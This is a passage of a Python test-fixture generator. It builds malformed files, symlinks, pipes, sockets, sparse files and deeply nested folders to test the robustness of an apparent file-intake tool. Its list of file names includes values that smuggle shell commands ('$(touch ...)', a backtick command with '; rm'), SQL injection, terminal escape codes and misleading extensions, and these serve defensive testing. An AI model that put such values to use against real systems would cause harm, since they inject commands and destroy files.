    "still.avif": lambda: b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(2000),
    "study.dcm": lambda: bytes(128) + b"DICM" + bytes(500),
    "paint.psd": lambda: b"8BPS\0\1" + bytes(500),
    "note.rtf": lambda: rb"{\rtf1 hello}",
    "zeros.pdf": lambda: bytes(100_000),
    "noise.jpg": lambda: random.Random(9).randbytes(20_000),
    "one_byte.pdf": lambda: b"%",
    "header_only.pdf": lambda: b"%PDF-1.4\n",
    "header_and_end.pdf": lambda: b"%PDF-1.4\nstartxref\n0\n%%EOF\n",
    "header_only.tif": lambda: b"II*\0\x08\0\0\0",
    "header_only.jpg": lambda: b"\xff\xd8\xff\xe0",
    "header_only.png": lambda: b"\x89PNG\r\n\x1a\n",
    "header_only.gif": lambda: b"GIF89a",
    "header_only.webp": lambda: b"RIFF\0\0\0\0WEBP",
    "header_only.bmp": lambda: b"BM" + bytes(12) + b"\x28\0\0\0" + bytes(40),
    "header_only.heic": lambda: b"\0\0\0\x18ftypheic\0\0\0\0heicmif1",
    "header_only.j2k": lambda: b"\xff\x4f\xff\x51",
}
for _name, _make in FOREIGN.items():
    _file(_name, damaged=True)(_make)
for _name, _make in odd.MAKERS.items():
    _file(_name, damaged=any(word in _name for word in DAMAGE_WORDS))(_make)


# --- names and entries -------------------------------------------------------------------------
NAMES = (
    b"@%s.tif",
    b"-rf %s.tif",
    b"$(touch %s).tif",
    b"`%s`; rm x.tif",
    b"%s' OR 1=1 --.tif",
    b"%s\n09:00:00 filed.tif",
    b"%s\x1b[2J\x1b]0;title\x07.tif",
    b"%s\xff\xfe not UTF-8.tif",
    "%s‮fdp.tif".encode(),
    "%s 🩻 é è.tif".encode(),
    b"%s.tif.exe",
    b"%s no ending",
    b" %s leading and trailing .tif ",
    b"%s%%s%%n{}{0}.tif",
)


def odd_names() -> Iterator[bytes]:
    for number, name in enumerate(NAMES):
        yield name.replace(b"%s", f"{MARK}n{number}".encode(), 1)
    yield MARK.encode() + b"l" * (255 - len(MARK) - 4) + b".tif"


def special(inbox: Path) -> dict[str, int]:
    """Entries that only a file system can hold; how many files, refused entries and clutter they are."""
    root = os.fsencode(inbox)
    files = 0
    for number, raw in enumerate(odd_names()):
        Path(os.fsdecode(os.path.join(root, raw))).write_bytes(odd.tiff([_tiny_page(8 + number, 4)]))  # noqa: PTH118
        files += 1
    folder = inbox / f"{MARK}folder\nwith a line" / "-x" / "\x1b[31m"
    folder.mkdir(parents=True)
    (folder / f"{MARK}inner.tif").write_bytes(odd.tiff([_tiny_page(50, 1)]))
    (inbox / f"{MARK}empty.pdf").touch()
    files += 2
    outside = inbox.parent / "outside.pdf"
    outside.write_bytes(WHOLE["chart.pdf"]())
    (inbox / f"{MARK}link.pdf").symlink_to(outside)
    (inbox / f"{MARK}dangling.pdf").symlink_to(inbox / "nowhere")
    (inbox / f"{MARK}link_to_folder").symlink_to(inbox.parent)
    (inbox / f"{MARK}device.pdf").symlink_to("/dev/zero")
    os.mkfifo(inbox / f"{MARK}pipe.pdf")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(os.path.relpath(inbox / f"{MARK}socket.pdf"))
    with (inbox / f"{MARK}sparse.tif").open("wb") as stream:
        stream.write(b"II*\0")
        stream.truncate(1 << 40)
    deep = inbox.joinpath(*(f"{MARK}deep{level}" for level in range(12)))
    deep.mkdir(parents=True)
    (deep / f"{MARK}too_deep.tif").write_bytes(odd.tiff([_tiny_page(60, 1)]))
    for name in (".DS_Store", "Thumbs.db", "~$letter.docx", "scan.part"):
        (inbox / name).write_bytes(b"clutter")
    return {"files": files, "refused": 8, "clutter": 4}


def write(out: Path) -> dict[str, Expected]:
    """All ordinary files, the roster and what is expected of each; returns the expectations."""
    files = out / "files"
    files.mkdir(parents=True, exist_ok=True)
    people.write_roster(CAST, out / "roster.csv")
    expected: dict[str, Expected] = {}
    for name, make in sorted(MAKERS.items()):
        owners, damaged = OWNED[name]
        (files / f"{MARK}{name}").write_bytes(make())
        expected[f"{MARK}{name}"] = {"owners": owners.split(), "damaged": damaged}
    (out / "expected.json").write_text(json.dumps(expected, indent=1), "utf-8")
    return expected


if __name__ == "__main__":
    made = write(Path(sys.argv[1]))
    sys.stderr.write(f"{len(made)} files\n")
